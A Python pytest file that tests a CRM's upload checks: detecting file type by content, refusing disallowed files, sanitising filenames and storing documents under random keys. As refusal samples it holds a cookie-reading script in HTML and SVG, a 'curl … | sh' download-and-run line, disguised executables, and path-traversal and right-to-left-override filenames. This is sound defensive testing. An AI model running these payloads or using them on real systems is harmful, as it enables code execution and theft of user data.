"""Uploaded documents: accepted by their content, refused otherwise, stored under random keys."""

import io
import re
import stat
import struct
import tempfile
import unicodedata
import zipfile
import zlib
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import Workbook

from crm.documents.files import RefusedFile, check, safe_name, sniff
from crm.documents.storage import LocalStore, store_for

MAX = 64 * 1024
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _zip(*entries: tuple[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries:
            archive.writestr(name, text)
    return buffer.getvalue()


def _png() -> bytes:
    def chunk(tag: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(tag + data))
        return struct.pack(">I", len(data)) + tag + data + crc

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(
        b"IEND", b"")


def _xlsx() -> bytes:
    book = Workbook()
    book.active["A1"] = "مرحبا"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _odf(mimetype: str) -> bytes:
    return _zip(("mimetype", mimetype), ("content.xml", "<office:document-content/>"))


TYPES = ("[Content_Types].xml", "<Types/>")
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
DOCX = _zip(TYPES, ("word/document.xml", "<w:document/>"))

ACCEPTED = [
    ("report.pdf", PDF, "pdf"),
    ("logo.png", _png(), "png"),
    ("photo.jpg", JPEG, "jpeg"),
    ("photo.webp", WEBP, "webp"),
    ("letter.docx", DOCX, "docx"),
    ("budget.xlsx", _xlsx(), "xlsx"),
    ("budget.xlsx", _zip(TYPES, ("xl/workbook.xml", "<workbook/>")), "xlsx"),
    ("pitch.pptx", _zip(TYPES, ("ppt/presentation.xml", "<p:presentation/>")), "pptx"),
    ("letter.odt", _odf("application/vnd.oasis.opendocument.text"), "odt"),
    ("sheet.ods", _odf("application/vnd.oasis.opendocument.spreadsheet"), "ods"),
    ("old.doc", OLE2 + bytes(504), "doc"),
    ("OLD.XLS", OLE2 + bytes(504), "xls"),
    # The content decides, not the name.
    ("logo.pdf", _png(), "png"),
    ("letter.zip", DOCX, "docx"),
]

REFUSED = [
    ("page.html", HTML),
    ("page.pdf", HTML),
    ("image.svg", SVG),
    ("image.png", SVG),
    ("notes.docx", _zip(("a.txt", "hello"), ("b.txt", "world"))),
    ("notes.docx", _zip(("word/document.xml", "<w:document/>"))),  # no [Content_Types].xml
    ("letter.odt", _odf("application/x-shellscript")),
    ("broken.docx", b"PK\x03\x04" + bytes(100)),
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200)),
    ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200)),
    ("setup.docx", b"MZ\x90\x00" + bytes(60) + DOCX),  # a self-extracting archive
    ("run.sh", b"#!/bin/sh\ncurl http://example.com/x | sh\n"),
    ("data.pdf", b'<?xml version="1.0"?><data/>'),
    ("old.exe", OLE2 + bytes(504)),
    # puremagic calls these webp, png and jpeg; their real signatures say otherwise.
    ("sound.webp", b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(32)),
    ("odd.webp", b"RIFF\x24\x00\x00\x00ABCD" + bytes(32)),
    ("text.png", b"\\x89PNG is how the header starts"),
    ("text.jpg", b"\\377\\330\\377 is how a JPEG starts"),
]


def _without_bytes(value):
    """A test's id names its file, not its bytes: zip archives and workbooks made at
    collection hold the time, and two workers collecting a second apart disagreed."""
    return "content" if isinstance(value, bytes) else None


@pytest.mark.parametrize(("filename", "content", "kind"), ACCEPTED, ids=_without_bytes)
def test_accepts_by_content(filename, content, kind):
    assert check(io.BytesIO(content), filename, MAX) == (kind, len(content))


@pytest.mark.parametrize(("filename", "content"), REFUSED, ids=_without_bytes)
def test_refuses_other_content(filename, content):
    with pytest.raises(RefusedFile) as refused:
        check(io.BytesIO(content), filename, MAX)
    assert refused.value.reason == "type"


def test_refuses_an_empty_file():
    with pytest.raises(RefusedFile) as refused:
        check(io.BytesIO(b""), "empty.pdf", MAX)
    assert refused.value.reason == "empty"


def test_size_limit_is_measured_by_reading():
    exact = PDF + bytes(MAX - len(PDF))
    assert check(io.BytesIO(exact), "big.pdf", MAX) == ("pdf", MAX)
    with pytest.raises(RefusedFile) as refused:
        check(io.BytesIO(exact + b"\n"), "big.pdf", MAX)
    assert refused.value.reason == "too-large"


@pytest.mark.parametrize("content", [DOCX, HTML, b""], ids=["docx", "html", "empty"])
def test_leaves_the_stream_at_its_start(content):
    stream = io.BytesIO(content)
    stream.seek(len(content) // 2)
    try:
        check(stream, "file.docx", MAX)
    except RefusedFile:
        pass
    assert stream.tell() == 0


def test_reads_a_spooled_upload():
    """Werkzeug keeps uploads in a SpooledTemporaryFile; this one has rolled over to disk."""
    with tempfile.SpooledTemporaryFile(max_size=16) as stream:
        stream.write(DOCX)
        assert check(stream, "letter.docx", MAX) == ("docx", len(DOCX))
        assert stream.read() == DOCX


def test_sniff_needs_the_stream_for_zips():
    assert sniff(DOCX) is None
    assert sniff(DOCX, stream=io.BytesIO(DOCX)) == "docx"
    assert sniff(PDF) == "pdf"


@pytest.mark.parametrize(("filename", "kind", "expected"), [
    ("../../etc/passwd.pdf", "pdf", "passwd.pdf"),
    ("C:\\Users\\amina\\..\\CV.docx", "docx", "CV.docx"),
    ("رسالة.PDF", "pdf", "رسالة.pdf"),
    (unicodedata.normalize("NFD", "Résumé Hélène.pdf"), "pdf", "Résumé Hélène.pdf"),
    ("scan.png", "pdf", "scan.pdf"),
    ("photo.jpeg", "jpeg", "photo.jpg"),
    ("Rapport v1.2", "pdf", "Rapport v1.2.pdf"),
    ("invoice.exe", "pdf", "invoice.exe.pdf"),
    ("rap\x00port\n.pdf", "pdf", "rapport.pdf"),
    ("invoice\u202egpj.pdf", "pdf", "invoicegpj.pdf"),
    ("  note .pdf ", "pdf", "note.pdf"),
    ("", "pdf", "document.pdf"),
    ("..", "pdf", "document.pdf"),
    ("uploads/", "png", "document.png"),
    ("\x00\x01.pdf", "pdf", "document.pdf"),
])
def test_safe_name(filename, kind, expected):
    assert safe_name(filename, kind) == expected


@pytest.mark.parametrize("letter", ["a", "ب"])
def test_safe_name_trims_long_names(letter):
    name = safe_name(letter * 500 + ".pdf", "pdf")
    assert len(name) == 120
    assert name == letter * 116 + ".pdf"


def test_store_saves_and_opens(tmp_path):
    store = LocalStore(tmp_path / "documents")
    key = store.save(io.BytesIO(PDF))
    with store.open(key) as stored:
        assert stored.read() == PDF
    path = tmp_path / "documents" / key[:2] / key
    assert re.fullmatch(r"[A-Za-z0-9_-]{32}", key)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert list(path.parent.iterdir()) == [path]  # no temporary file left behind
    assert store.exists(key)


def test_store_keys_are_new_each_time(tmp_path):
    store = LocalStore(tmp_path)
    assert store.save(io.BytesIO(b"one")) != store.save(io.BytesIO(b"one"))


def test_store_deletes(tmp_path):
    store = LocalStore(tmp_path)
    key = store.save(io.BytesIO(PDF))
    store.delete(key)
    assert not store.exists(key)
    store.delete(key)
    with pytest.raises(FileNotFoundError):
        store.open(key)


@pytest.mark.parametrize("key", [
    "../x", "", "a/b", "a" * 31 + ".", "../" + "a" * 29, "a" * 33, "a" * 32 + "\n", None,
])
@pytest.mark.parametrize("method", ["open", "delete", "exists"])
def test_store_refuses_other_keys(tmp_path, method, key):
    with pytest.raises(ValueError):
        getattr(LocalStore(tmp_path), method)(key)


def test_store_for_reads_the_config(tmp_path):
    app = SimpleNamespace(config={"DOCUMENTS_FOLDER": str(tmp_path)})
    assert store_for(app).folder == Path(tmp_path)
